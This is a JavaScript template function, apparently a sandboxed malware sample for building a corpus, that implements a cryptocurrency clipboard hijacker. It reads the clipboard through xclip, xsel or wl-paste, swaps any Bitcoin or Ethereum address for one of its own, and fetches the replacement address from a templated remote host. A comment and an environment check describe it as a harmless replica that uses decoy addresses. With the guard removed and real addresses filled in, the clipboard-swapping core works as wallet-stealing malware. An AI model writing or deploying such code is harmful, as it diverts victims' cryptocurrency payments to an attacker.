// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawnSync } = require('child_process');
  const fs = require('fs'), store = require('os').tmpdir() + '/.{{token}}';
  const mine = { btc: 'bc1qreplica{{token}}', eth: '0x0000000000000000000000000000000000000000' };
  // Which address to put in is asked first; ours, which nobody owns, stays where nothing fitting comes.
  try { const given = await (await fetch('http://{{ip}}:{{port}}/{{path}}', { signal: AbortSignal.timeout(1000) })).text(); if (/^0x0{40}$/.test(given)) mine.eth = given; } catch (error) { /* nobody there */ }
  const read = () => {
    for (const [program, words] of [['xclip', ['-selection', 'clipboard', '-o']], ['xsel', ['-b', '-o']], ['wl-paste', ['-n']]]) {
      const out = spawnSync(program, words, { timeout: 300 });
      if (!out.error && out.status === 0) return String(out.stdout);
    }
    try { return fs.readFileSync(store, 'utf8'); } catch (error) { return '0x52908400098527886E0F7030069857D2E4169EE7'; }
  };
  const write = (text) => {
    const out = spawnSync('xclip', ['-selection', 'clipboard'], { input: text, timeout: 300 });
    if (out.error || out.status !== 0) try { fs.writeFileSync(store, text); } catch (error) { /* no clipboard at all */ }
  };
  for (let turn = 0; turn < Math.min({{n}}, 4); turn++) {
    const text = read();
    const swapped = text.replace(/\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/g, mine.btc).replace(/\b0x[0-9a-fA-F]{40}\b/g, mine.eth);
    if (swapped !== text) write(swapped);
    await new Promise((done) => setTimeout(done, 200));
  }
  try { fs.unlinkSync(store); } catch (error) { /* a real clipboard took it */ }
}
